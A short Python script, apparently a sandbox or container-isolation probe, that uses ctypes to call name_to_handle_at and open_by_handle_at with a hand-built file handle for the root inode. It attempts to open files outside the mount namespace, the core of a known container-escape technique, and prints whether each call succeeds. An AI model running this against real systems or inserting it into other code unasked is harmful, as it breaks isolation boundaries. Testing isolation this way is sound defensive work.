# Opens files past the mount table.
import ctypes
import errno
import os
import platform


def attempt(what, call, *arguments):
    try:
        call(*arguments)
    except OSError as error:
        print(f"{what}: {errno.errorcode[error.errno]}")
    else:
        print(f"{what}: done")


libc = ctypes.CDLL(None, use_errno=True)


def syscall(number, *arguments):
    if libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments)) == -1:
        raise OSError(ctypes.get_errno(), "")


name_to_handle, open_by_handle = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
handle = ctypes.create_string_buffer(b"\x08\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00\x00" + bytes(128))
mount = ctypes.c_int()
attempt("name_to_handle_at", syscall, name_to_handle, -100, ctypes.addressof(ctypes.create_string_buffer(b"/")), ctypes.addressof(handle), ctypes.addressof(mount), 0)
attempt("open_by_handle_at", syscall, open_by_handle, os.open("/", os.O_RDONLY), ctypes.addressof(handle), os.O_RDONLY)
